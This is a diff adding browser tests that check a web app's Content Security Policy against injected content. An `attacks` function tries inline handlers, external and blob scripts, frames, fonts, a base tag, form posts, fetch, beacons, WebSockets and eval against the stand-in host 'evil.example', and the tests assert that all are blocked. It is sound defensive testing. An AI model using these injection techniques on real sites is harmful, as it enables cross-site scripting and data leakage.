@@ -178,6 +178,154 @@ test("?safe=1 leaves custom code out, says so, and lasts as long as the tab", as
   await eventually(async () => assert.is(await ran(visitor.page), 1));
 });
 
+const evil = "https://evil.example";
+
+/** What a script or markup that got into the page would try. */
+const attacks = () => {
+  const evil = "https://evil.example";
+  const say = (what: string) => Reflect.set(window, "ran", what);
+  const add = <Tag extends keyof HTMLElementTagNameMap>(
+    tag: Tag,
+    values: Partial<HTMLElementTagNameMap[Tag]>,
+  ): HTMLElementTagNameMap[Tag] =>
+    document.body.appendChild(Object.assign(document.createElement(tag), values));
+  const blobUrl = (text: string) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
+  document.body.insertAdjacentHTML("beforeend", `<img src="x" onerror="window.ran='inline handler'">`);
+  add("script", { textContent: "window.ran = 'inline script'" });
+  add("script", { src: `${evil}/script.js` });
+  add("script", { src: `${evil}/module.js`, type: "module" });
+  add("script", { src: "data:text/javascript,window.ran='data script'" });
+  add("img", { src: `${evil}/image.png` });
+  add("video", { src: `${evil}/video.mp4` });
+  add("iframe", { src: `${evil}/frame` });
+  add("object", { data: `${evil}/object` });
+  add("link", { rel: "stylesheet", href: `${evil}/style.css` });
+  add("link", { rel: "prefetch", href: `${evil}/prefetch` });
+  add("style", {
+    textContent: `@import "${evil}/import.css"; body { background: url("${evil}/background.png") }`,
+  });
+  document.fonts.add(new FontFace("evil", `url("${evil}/font.woff2")`));
+  void document.fonts.load("1px evil").catch(() => undefined);
+  document.head.append(Object.assign(document.createElement("base"), { href: `${evil}/` }));
+  add("form", { action: `${evil}/form`, method: "post" }).submit();
+  void fetch(`${evil}/fetch`).catch(() => undefined);
+  navigator.sendBeacon(`${evil}/beacon`);
+  for (const open of [
+    () => new WebSocket("wss://evil.example/socket"),
+    () => new EventSource(`${evil}/events`),
+    () => new Worker(blobUrl("fetch('https://evil.example/worker')")),
+  ]) {
+    try {
+      open();
+    } catch {
+      // Some are refused by an exception, some by an event.
+    }
+  }
+  // Not directly: the test's own call may use eval.
+  setTimeout(() => {
+    try {
+      // biome-ignore lint/security/noGlobalEval: this is what is tried
+      eval("window.ran = 'eval'");
+    } catch {
+      Reflect.set(window, "evalBlocked", true);
+    }
+  });
+  add("script", { src: blobUrl("window.blobRan = true"), onload: () => say("blob script") });
+};
+
+/** The policies of the page, the static one first. */
+const policies = async (page: Page): Promise<string[]> => {
+  const all = await page
+    .locator("meta[http-equiv=Content-Security-Policy]")
+    .evaluateAll((found) => found.map((one) => (one as HTMLMetaElement).content));
+  return all.map((one) => one.replace(/'sha256-[^']+'/, "(boot script)"));
+};
+
+const firstPolicy =
+  "script-src 'self' (boot script) blob: https:; script-src-attr 'none'; style-src 'self' 'unsafe-inline' https:; " +
+  "worker-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'";
+const sources =
+  "worker-src 'self'; connect-src 'self'; style-src 'self' 'unsafe-inline'; " +
+  "img-src 'self' data: blob: https://api.dicebear.com; font-src 'self' data:";
+const withoutCode = `default-src 'none'; script-src 'self'; ${sources}`;
+const withOwnCode = `default-src 'self' data: blob:; script-src 'self' blob:; ${sources}`;
+
+const external = '<script src="https://cdn.example/widget.js"></script>';
+const cases = [
+  { title: "without custom code, on a list", path: "nat", code: "", second: withoutCode },
+  { title: "without custom code, on the login page", path: "login", code: "", second: withoutCode },
+  { title: "without custom code, in a terminal", path: "terminal/1", code: "", second: withoutCode },
+  { title: "with ?safe=1", path: "nat?safe=1", code: external, second: withoutCode },
+  {
+    title: "with custom code that names no other host",
+    path: "nat",
+    code: "<script>window.own = document.querySelectorAll('meta[http-equiv]').length // nothing else</script>",
+    second: withOwnCode,
+  },
+];
+
+for (const { title, path, code, second } of cases) {
+  test(
+    `A second policy keeps everything from other hosts out: ${title}`,
+    async (visitor, stage) => {
+      const asked: string[] = [];
+      await visitor.context.route(`${evil}/**`, (route) => {
+        asked.push(new URL(route.request().url()).pathname);
+        return route.fulfill({ contentType: "text/javascript", body: "window.ran = 'external'" });
+      });
+      await stage.control({ op: "setting", custom_code_dashboard: code });
+      await watchViolations(visitor.page);
+      if (path !== "login") await visitor.isSignedIn();
+      await visitor.open(path);
+      await eventually(async () => assert.equal(await policies(visitor.page), [firstPolicy, second]));
+      console.log(`\n${title}:\n  ${(await policies(visitor.page)).join("\n  ")}`);
+      await visitor.settles();
+      assert.equal(await blocked(visitor.page), [], "the product needs nothing else");
+      const own = second === withOwnCode;
+      if (own)
+        await eventually(async () =>
+          assert.is(await visitor.page.evaluate("window.own"), 2, "the policy comes before the code"),
+        );
+
+      await visitor.page.evaluate(attacks);
+      const wanted =
+        "base-uri connect-src default-src font-src form-action frame-src img-src media-src object-src " +
+        "script-src script-src-attr script-src-elem style-src-elem worker-src";
+      await eventually(async () => {
+        const seen = new Set(await blocked(visitor.page));
+        for (const one of wanted.split(" "))
+          assert.ok(seen.has(one), `${one} is not among ${[...seen].join(", ")}`);
+      });
+      await eventually(async () =>
+        own
+          ? assert.is(await ran(visitor.page), "blob script")
+          : assert.ok(await visitor.page.evaluate("window.evalBlocked")),
+      );
+      assert.equal(asked, [], "no request left the browser");
+      assert.is(await visitor.page.evaluate("window.blobRan"), own ? true : undefined);
+      assert.is(await ran(visitor.page), own ? "blob script" : undefined);
+      assert.ok((await visitor.page.evaluate(() => document.baseURI)).startsWith(visitor.url));
+    },
+    { expects: [/Content Security Policy/, /status of 404/, /requested another host: https:\/\/evil/] },
+  );
+}
+
+test(
+  "Custom code that names another host has the first policy alone, from the login page on",
+  async (visitor, stage) => {
+    await visitor.context.route("https://cdn.example/**", (route) =>
+      route.fulfill({ contentType: "text/javascript", body: "window.widget = (window.widget ?? 0) + 1" }),
+    );
+    await stage.control({ op: "setting", custom_code_dashboard: external });
+    await visitor.open("login");
+    await eventually(async () => assert.is(await visitor.page.evaluate("window.widget"), 1));
+    await visitor.signsIn();
+    await visitor.isHome();
+    assert.equal(await policies(visitor.page), [firstPolicy]);
+  },
+  { expects: [/requested another host: https:\/\/cdn\.example/] },
+);
+
 test("The page itself breaks no rule of its policy", async (visitor) => {
   await watchViolations(visitor.page);
   for (const path of ["login", "", "nat", "nat?new=", "nat?edit=1"]) {
